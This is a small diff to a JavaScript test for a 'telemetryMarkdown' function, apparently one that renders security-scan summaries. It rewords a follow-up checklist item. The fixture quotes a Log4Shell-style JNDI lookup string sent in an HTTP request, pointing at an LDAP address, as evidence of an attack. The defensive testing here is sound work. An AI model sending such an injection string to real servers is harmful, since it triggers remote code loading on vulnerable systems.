@@ -12,7 +12,7 @@ describe('telemetryMarkdown', () => {
         '**13 sources scan us, in 8 episodes to review.',
         '- **Found:** open: 8080/tcp (http) on 10.20.0.27, 443/tcp (https) on 10.20.0.30',
         '- evidence: `GET /?x=${jndi:ldap://198.51.100.201:1389/a} HTTP/1.1` (`conn.log` line 9411)',
-        '- [ ] Look at 10.20.0.27 now',
+        '- [ ] Read the sessions, logins and new processes of 10.20.0.27',
         '### Background of the internet',
       ],
     },
